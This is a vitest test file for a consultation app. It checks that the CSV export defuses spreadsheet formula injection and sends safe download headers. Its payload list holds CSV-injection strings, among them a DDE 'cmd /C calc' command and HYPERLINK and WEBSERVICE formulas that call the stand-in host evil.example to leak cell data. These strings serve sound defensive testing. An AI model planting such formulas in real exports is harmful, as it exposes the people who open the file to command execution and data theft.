// Case 52 of the attack table through the real export: nothing in the file is a formula, wherever its words came from.

import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { instant } from '../../shared/domain/kernel/ids.ts'
import { aContent, aPublished, aResponse, personNumber } from '../support/builders.ts'
import { cast, publish, startApp } from './support/app-under-test.ts'

const formulas = [
  '=1+1',
  '+1',
  '-1+cmd|" /C calc"!A0',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '​=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1',
  '",=1+1',
  '"\r\n=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  '=WEBSERVICE("https://evil.example")',
]
// What a spreadsheet runs: the first sign it sees, past blanks and what nobody sees.
const runs = /^[\s\u00ad\u200b-\u200f\ufeff]*[=+\-@＝＋－＠]/

/** The export of a consultation in whose every text somebody wrote a formula. */
const exported = async () => {
  const started = await startApp()
  const { sections } = aContent()
  const nasty = sections.map((section) => ({
    ...section,
    title: '=1+1',
    questions: section.questions.map((question) => ({ ...question, text: `=${question.text}` })),
  }))
  const published = await publish(started.ports, {
    content: { ...aPublished().content, title: '=1+1', sections: nasty },
  })
  for (const [index, text] of formulas.entries()) {
    const person = personNumber(100 + index)
    await started.ports.responses.create(
      published,
      aResponse({
        person,
        key: `breakfast-clubs#990101#${person}`,
        personName: text,
        schoolName: text,
        area: text,
        district: text,
        phase: text,
        answers: { Q01: 'agree', Q01_c: text, Q07: text },
        sentAt: instant('2026-10-05T09:00:00.000Z'),
      }),
    )
  }
  return await started.call('GET', '/api/consultations/breakfast-clubs/export.csv', { as: cast.marcus })
}

describe('52: the export', () => {
  it('52: has no formula in any cell, and every row and word is there', async () => {
    const reply = await exported()
    expect(reply.statusCode).toBe(200)
    const { data, errors } = Papa.parse<string[]>(reply.body.replace(/^﻿/, '').trimEnd())
    expect(errors).toEqual([])
    expect(data).toHaveLength(formulas.length + 1)
    expect(new Set(data.map((row) => row.length)).size).toBe(1)
    expect(data.flat().filter((cell) => runs.test(cell))).toEqual([])
    const cells = data.flat().map((cell) => cell.replace(/^'/, ''))
    for (const text of formulas) expect(cells).toContain(text.replaceAll('\0', '\ufffd'))
  })

  it('52: is a file to keep, whatever the browser would make of it', async () => {
    const { headers } = await exported()
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/)
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['cache-control']).toBe('no-store')
  })
})
